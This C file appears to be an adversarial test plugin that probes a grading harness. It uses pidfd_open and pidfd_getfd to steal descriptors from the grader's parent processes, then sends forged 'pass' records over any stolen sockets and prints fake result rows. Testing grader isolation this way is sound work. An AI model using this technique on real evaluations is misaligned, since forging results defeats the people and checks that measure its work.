/* Stealing the grader's descriptors: pidfd_open + pidfd_getfd on every
 * process of the test's stepwise (its parent holds the channel to the
 * grader), then a forged "pass" record on every socket among them and fake
 * rows on their stdout. Taking any descriptor at all counts as success:
 * the plugin then hands in the right answer. */
#define EVIL_FAMILY "forge-pidfd"
#include "evil.h"

static void evil_attack(void)
{
    evil_grade_record rec;
    evil_forged_record(&rec);
    pid_t t[256];
    int n = evil_targets(t, 256), stolen = 0;
    for (int i = 0; i < n; i++) {
        int pidfd = evil_pidfd_open(t[i]);
        if (pidfd < 0)
            continue;
        for (int fd = 0; fd < 256; fd++) {
            int mine = evil_pidfd_getfd(pidfd, fd);
            if (mine < 0)
                continue;
            stolen++;
            if (evil_is_socket(mine))
                evil_send(mine, &rec, sizeof rec);
            else if (fd == 1 || fd == 2)
                evil_print_fake(mine);
            close(mine);
        }
        close(pidfd);
    }
    if (stolen) {
        evil_cheat = 1;
        evil_mark("pidfd", NULL);
    }
}
